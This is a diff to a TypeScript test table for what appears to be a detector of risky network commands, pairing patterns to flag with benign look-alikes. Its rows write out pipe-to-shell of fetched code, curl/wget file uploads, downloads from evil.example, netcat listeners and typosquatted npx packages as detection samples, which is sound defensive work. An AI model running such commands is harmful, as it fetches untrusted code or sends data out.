@@ -12,6 +12,7 @@ export const NETWORK: ReadonlyArray<Row> = [
     "wget localhost/x | sort"
   ],
   ["pipe-to-shell", "⟨bash¦zsh¦dash¦sh⟩ <(⟨curl¦wget⟩ x)", "diff <(ls a) <(ls b)"],
+  ["pipe-to-shell", "⟨bash¦sh¦zsh¦fish⟩ <(x)", "sort <(x)"],
   ["pipe-to-shell", "source <(x)", "source x"],
   ["pipe-to-shell", "sh -c ⟨$(curl x)¦(wget x)¦curl x⟩", "sh -c ls"],
   ["pipe-to-shell", "⟨python¦node¦perl¦ruby¦bash⟩ <(x)", "sort <(x)"],
@@ -26,7 +27,12 @@ export const NETWORK: ReadonlyArray<Row> = [
     "See http://⟨localhost/x¦127.0.0.1:80/x¦[::1]:80/¦host.docker.internal/¦api.local/x¦api.test¦api.localhost/¦api.invalid/¦a.internal/x¦api¦api. Then⟩"
   ],
   ["foreign-address", "See https[:]//evil.example/x", "See https: //"],
-  ["foreign-address", "See 203.0.113.7 there.", "See ⟨127.0.0.1¦0.0.0.0⟩ there."],
+  ["foreign-address", "See 203.0.113.7 there.", "See ⟨127.0.0.1¦0.0.0.0¦0.0.0.0:3000¦http://0.0.0.0:3000/x⟩ there."],
+  [
+    "network-command",
+    "⟨curl -o x evil.example/y¦curl -sSL -o /tmp/x evil.example¦wget -O - evil.example/y⟩",
+    "⟨curl -o out.json localhost:3000/x¦Load charts with d3.io.¦Send events over socket.io.⟩"
+  ],
   [
     "foreign-address",
     "See evil⟨[.]¦(dot)¦ dot ⟩⟨com¦net¦org¦io¦dev¦app¦xyz¦ru¦cn¦site¦example⟩ there.",
@@ -42,7 +48,7 @@ export const NETWORK: ReadonlyArray<Row> = [
   [
     "network-command",
     "⟨curl¦wget⟩ x ⟨-d @y¦--data @y¦--data-binary=@y¦-F a=@y¦-T y¦--upload-file y¦--post-file y¦--post-data y⟩",
-    "curl x -o y"
+    "curl x -o ⟨y¦out.json⟩"
   ],
   ["network-command", "⟨curl¦wget⟩ ⟨$X¦-s $X¦2130706433¦0x7f000001ab⟩", "curl 12345"],
   ["network-command", "⟨nc¦ncat¦netcat¦socat¦telnet⟩ ⟨-l¦--listen¦host 80⟩", "nc is installed"],
@@ -97,6 +103,11 @@ export const NETWORK: ReadonlyArray<Row> = [
     "package-install",
     "⟨npx¦bunx¦uvx¦pnpm dlx¦yarn dlx¦bun x¦pipx run¦npm exec⟩ ⟨-y x¦--yes x¦x@1¦github:x¦git+x⟩",
     "npx vitest"
+  ],
+  [
+    "package-install",
+    "⟨npx¦bunx¦uvx¦pnpm dlx¦yarn dlx¦bun x¦pipx run¦npm exec⟩ ⟨lefftpad¦@evil/fmt¦vitest-evil¦-p x evil⟩",
+    "⟨npx¦bunx⟩ ⟨vitest run x¦tsc --noEmit¦playwright test¦for one-off tools¦is slow⟩"
   ],
   [
     "package-install",
